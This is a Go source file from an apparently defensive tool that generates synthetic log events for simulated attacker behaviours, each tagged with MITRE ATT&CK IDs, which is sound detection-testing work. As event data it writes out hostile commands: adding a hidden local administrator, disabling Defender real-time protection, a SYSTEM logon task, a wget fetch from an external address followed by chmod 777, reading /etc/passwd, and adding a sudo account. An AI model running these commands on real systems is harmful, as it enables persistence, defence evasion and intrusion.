package record

import (
	"cmp"
	"fmt"
	"net/netip"

	"github.com/lapwing-defence/lapwing/internal/event"
)

// exchangePaths are the directories that password spraying walks.
var exchangePaths = []string{"/ecp/", "/ews/exchange.asmx", "/oab/", "/owa/", "/rpc/", "/mapi/", "/powershell/", "/autodiscover/autodiscover.xml", "/Microsoft-Server-ActiveSync"}

func exchangeSpray(h *Host, p Params) []event.Event {
	var out []event.Event
	for i := range 36 {
		user := fmt.Sprintf("%s%d", people[i%12], 1+i%12/6)
		out = append(out, h.Web(Request{From: p.From, Path: exchangePaths[i%len(exchangePaths)], User: user, Agent: "python-requests/2.31", Status: 401})...)
		if i%9 == 0 {
			out = append(out, h.Logon(Logon{User: user, Type: 8, From: p.From, Failed: true})...)
		}
	}
	return out
}

func mailRobot(h *Host, p Params) []event.Event {
	var out []event.Event
	for i := range 8 {
		user := people[i] + "@" + cmp.Or(h.c.Domain, "example.internal")
		out = append(out, h.Web(Request{From: p.From, Method: "POST", Path: "/ews/exchange.asmx", User: user, Agent: "PHP/7.4 Curlc4", Bytes: 48_000})...)
		out = append(out, h.MailAccess("0000aaaa-11bb-22cc-33dd-444455556666", user, p.External.String())...)
	}
	return out
}

func stagedFiles(h *Host, p Params) []event.Event {
	return all(
		h.File(worker, `C:\inetpub\wwwroot\aspnet_client\sess.zip`, webAccount),
		h.File(worker, `C:\inetpub\wwwroot\aspnet_client\m2k.js`, webAccount),
		h.Web(Request{From: p.From, Path: "/aspnet_client/sess.zip", Agent: "Mozilla/5.0", Bytes: 2_400_000}),
		h.Web(Request{From: p.From, Path: "/aspnet_client/m2k.js", Agent: "Mozilla/5.0", Bytes: 900_000}),
	)
}

func adminLogon(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, "administrator")
	return all(h.RemoteDesktop(u, p.From, true), h.PasswordReset("svc-backup", u))
}

func accountCreated(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, "administrator")
	return all(
		h.run(u, "net.exe", "user support2 Marker-0000 /add", "High"),
		h.run(u, "net.exe", "localgroup Administrators support2 /add", "High"),
		h.AccountCreated("support2", "Administrators", u),
	)
}

func defenderOff(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, "administrator")
	return all(
		h.Process(Process{Image: shell, CommandLine: "powershell Set-MpPreference -DisableRealtimeMonitoring $true", User: u, Parent: cmd, Integrity: "High"}),
		h.Script("Set-MpPreference -DisableRealtimeMonitoring $true", u),
		h.DefenderOff(),
	)
}

func taskCreated(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, "administrator")
	return all(
		h.run(u, "schtasks.exe", `/create /tn Updater /tr C:\ProgramData\conhost.exe /sc onlogon /ru SYSTEM`, "High"),
		h.Task("Updater", conhost, u),
	)
}

func shareCollect(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, "administrator")
	return all(h.Logon(Logon{User: u, Type: 3, From: p.From, NTLM: true, Admin: true}), h.Share(u, "C$", p.From, `Users\Public\plan.docx`, `inetpub\web.config`))
}

func threadInjected(h *Host, _ Params) []event.Event {
	return h.RemoteThread(shell, system32+"lsass.exe")
}

func linuxGuessing(h *Host, p Params) []event.Event {
	var out []event.Event
	for i := range 12 {
		at := netip.AddrPortFrom(p.From.Addr(), p.From.Port()+uint16(i))
		out = append(out, h.SSHLogin([]string{"root", "admin", "oracle", "test"}[i%4], at, false, i%4 == 0)...)
	}
	return append(out, h.SSHLogin(cmp.Or(p.User, "root"), p.From, true, true)...)
}

func linuxShell(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, "www-data")
	return all(
		h.Exec(u, "/bin/sh", "-c", "id; uname -a"), h.Exec(u, "/usr/bin/id"), h.Exec(u, "/usr/bin/whoami"), h.Exec(u, "/usr/bin/uname", "-a"),
		h.Exec(u, "/usr/bin/cat", "/etc/passwd"),
	)
}

func linuxDownload(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, "www-data")
	return all(
		h.Exec(u, "/usr/bin/wget", "http://"+p.External.String()+"/marker.sh", "-O", "/tmp/marker.sh"), h.Exec(u, "/usr/bin/chmod", "777", "/tmp/marker.sh"),
		h.Exec(u, "/usr/bin/rm", "-f", "/tmp/marker.sh"),
	)
}

func linuxCron(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, "root")
	return all(h.Exec(u, "/usr/bin/crontab", "-"), h.Auth("crontab", "("+u+") REPLACE ("+u+")", u), h.Syslog("cron", "("+u+") RELOAD (crontabs/"+u+")"))
}

func linuxAccount(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, "root")
	return all(
		h.Exec(u, "/usr/sbin/useradd", "-m", "-G", "sudo", "support2"),
		h.Auth("useradd", "new user: name=support2, UID=1003, GID=1003, home=/home/support2, shell=/bin/sh, from=none", u),
		h.Auth("sudo", u+" : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/sbin/usermod -aG sudo support2", u),
	)
}

// behaviours is the closed list.
var behaviours = []behaviour{
	{Behaviour{"server-shell", "a web server starts a shell", []string{"T1190", "T1505.003", "T1059.003"}, "windows"}, serverShell},
	{Behaviour{"object-extension", "a map server's extension takes a marker as command and starts a shell", []string{"T1505.003", "T1190"}, "windows"}, objectExtension},
	{Behaviour{"powershell-command", "PowerShell under a web server", []string{"T1059.001"}, "windows"}, powershell},
	{Behaviour{"discovery-burst", "five questions about host, net and domain under a service account", []string{"T1082", "T1033", "T1018", "T1482"}, "windows"}, discovery},
	{Behaviour{"download-by-tool", "certutil and bitsadmin fetch a marker from a bare address", []string{"T1105", "T1197"}, "windows"}, download},
	{Behaviour{"privilege-tool", "a tool of the potato family", []string{"T1068", "T1134.001"}, "windows"}, potato},
	{Behaviour{"nla-off", "network level authentication of RDP is switched off", []string{"T1112", "T1021.001"}, "windows"}, nlaOff},
	{Behaviour{"sticky-keys", "a debugger for the sticky keys, used at the sign-in screen", []string{"T1546.008", "T1546.012"}, "windows"}, stickyKeys},
	{Behaviour{"bridge-service", "a renamed VPN bridge becomes a service", []string{"T1543.003", "T1569.002", "T1036.004", "T1564.001"}, "windows"}, bridgeService},
	{Behaviour{"renamed-vpn", "a VPN program under the name of a system file", []string{"T1036.003", "T1036.005"}, "windows"}, renamedVPN},
	{Behaviour{"vpn-tunnel", "that program asks for its server and connects", []string{"T1572", "T1071.001"}, "windows"}, tunnel},
	{Behaviour{"standing-vpn", "a VPN bridge with its own name starts at boot", []string{"T1133"}, "windows"}, standingVPN},
	{Behaviour{"wmic-remote", "a process is created on another host", []string{"T1047"}, "windows"}, wmicRemote},
	{Behaviour{"winrm-shell", "a shell of a remote management session", []string{"T1021.006"}, "windows"}, winrmShell},
	{Behaviour{"lsass-dump", "the memory of LSASS is dumped by Task Manager", []string{"T1003.001"}, "windows"}, lsassDump},
	{Behaviour{"hive-save", "registry hives with secrets are saved", []string{"T1003.002", "T1003.004"}, "windows"}, hiveSave},
	{Behaviour{"dcsync", "an account that is no controller asks for replication", []string{"T1003.006"}, "windows"}, replication},
	{Behaviour{"password-file", "a file with passwords is opened", []string{"T1552.001"}, "windows"}, passwordFile},
	{Behaviour{"internal-scan", "a scanner runs on a server", []string{"T1046"}, "windows"}, internalScan},
	{Behaviour{"restore-points", "restore points are listed", []string{"T1082"}, "windows"}, restorePoints},
	{Behaviour{"fake-diagtrack", "a downloaded program that calls itself DiagTrack", []string{"T1189", "T1056.003", "T1036.005"}, "windows"}, fakeDiagTrack},
	{Behaviour{"exchange-spray", "a few passwords over many mailboxes and every Exchange directory", []string{"T1110.003", "T1110.001"}, "windows"}, exchangeSpray},
	{Behaviour{"mail-robot", "mailboxes are read by a program", []string{"T1114.002", "T1528"}, "windows"}, mailRobot},
	{Behaviour{"staged-files", "packed data lies in the web root and is fetched", []string{"T1074.001", "T1560.003", "T1020"}, "windows"}, stagedFiles},
	{Behaviour{"admin-logon", "an administrator logs on by RDP and resets a password", []string{"T1078", "T1021.001"}, "windows"}, adminLogon},
	{Behaviour{"account-created", "a new local administrator", []string{"T1136.001", "T1098"}, "windows"}, accountCreated},
	{Behaviour{"defender-off", "real-time protection is switched off", []string{"T1562.001"}, "windows"}, defenderOff},
	{Behaviour{"task-created", "a scheduled task", []string{"T1053.005"}, "windows"}, taskCreated},
	{Behaviour{"share-collect", "files are read over an administrative share", []string{"T1021.002", "T1039"}, "windows"}, shareCollect},
	{Behaviour{"remote-thread", "a thread is started in LSASS", []string{"T1055"}, "windows"}, threadInjected},
	{Behaviour{"ssh-guessing", "passwords are guessed at sshd until one fits", []string{"T1110.001", "T1078"}, "linux"}, linuxGuessing},
	{Behaviour{"server-shell-linux", "a web server starts a shell", []string{"T1190", "T1059.004", "T1033"}, "linux"}, linuxShell},
	{Behaviour{"download-linux", "a marker is fetched, made executable and removed", []string{"T1105", "T1070.004"}, "linux"}, linuxDownload},
	{Behaviour{"cron-changed", "a crontab is replaced", []string{"T1053.003"}, "linux"}, linuxCron},
	{Behaviour{"account-created-linux", "a new account with sudo", []string{"T1136.001"}, "linux"}, linuxAccount},
}
